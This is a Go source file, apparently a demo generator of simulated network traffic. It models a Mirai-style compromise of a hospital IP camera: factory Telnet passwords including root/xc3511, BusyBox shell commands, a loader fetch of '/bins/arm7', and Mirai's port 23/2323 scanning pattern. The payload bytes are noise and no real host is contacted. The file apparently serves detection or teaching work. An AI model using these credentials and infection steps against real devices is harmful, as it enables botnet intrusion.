// SPDX-FileCopyrightText: The Writ authors
// SPDX-License-Identifier: Apache-2.0

package demo

import (
	"encoding/binary"
	"net/netip"
	"time"
)

// intrusion: a bot tries factory passwords on the camera's Telnet service until one opens; its loader logs in
// with the same one from another address and has the camera fetch a program; then the camera scans the way
// Mirai does: port 23, every tenth time 2323, the sequence number equal to the destination address.
func (h *hospital) intrusion(w *wire, t time.Time) {
	for _, try := range []struct {
		user, password string
		opens          bool
	}{{"admin", "admin1234", false}, {"root", "888888", false}, {"root", "xc3511", true}} {
		t = h.telnet(w, h.bot, t.Add(2*time.Second), try.user, try.password, try.opens)
	}
	t = h.telnet(w, h.loader, t.Add(41*time.Second), "root", "xc3511", true)
	t = h.fetch(w, t.Add(time.Second))
	t = t.Add(20 * time.Second)
	dst := uint32(0x0b000000) // 11.0.0.0: Mirai leaves out private and some named ranges
	for i := range 1200 {
		dst = dst*1664525 + 1013904223
		ip := netip.AddrFrom4([4]byte(binary.BigEndian.AppendUint32(nil, dst)))
		if !ip.IsGlobalUnicast() || ip.IsPrivate() || ip.IsLoopback() {
			continue
		}
		port := uint16(23)
		if i%10 == 0 {
			port = 2323
		}
		t = t.Add(6250 * time.Microsecond) // 160 a second
		w.syn(t, h.camera, station{mac: h.gateway.mac, ip: ip}, 42123, port, dst)
	}
}

// fetch is the loader's program on its way to the camera; its bytes are noise.
func (h *hospital) fetch(w *wire, t time.Time) time.Time {
	body := noise("program", 3000)
	return w.converse(t, h.camera, h.loader, 80,
		ask("GET /bins/arm7 HTTP/1.0\r\nHost: "+h.loader.ip.String()+"\r\nUser-Agent: Wget\r\n\r\n"),
		answered(join([]byte("HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: "+
			"3000\r\n\r\n"), body)))
}

func (h *hospital) telnet(w *wire, from station, t time.Time, user, password string, opens bool) time.Time {
	turns := []turn{
		answered([]byte{255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3}),
		sent([]byte{255, 252, 1, 255, 252, 31, 255, 253, 1, 255, 253, 3}),
		reply("IPC-3060 login: "), ask(user + "\r\n"), reply(user + "\r\nPassword: "), ask(password + "\r\n"),
	}
	if !opens {
		turns = append(turns, later(2*time.Second, reply("\r\nLogin incorrect\r\n")))
	} else {
		turns = append(turns, reply("\r\n\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# "),
			ask("enable\r\nsystem\r\nshell\r\nsh\r\n"), reply("# "),
			ask("/bin/busybox ECCHI\r\n"), reply("ECCHI: applet not found\r\n# "))
	}
	return w.converse(t, from, h.camera, 23, turns...)
}
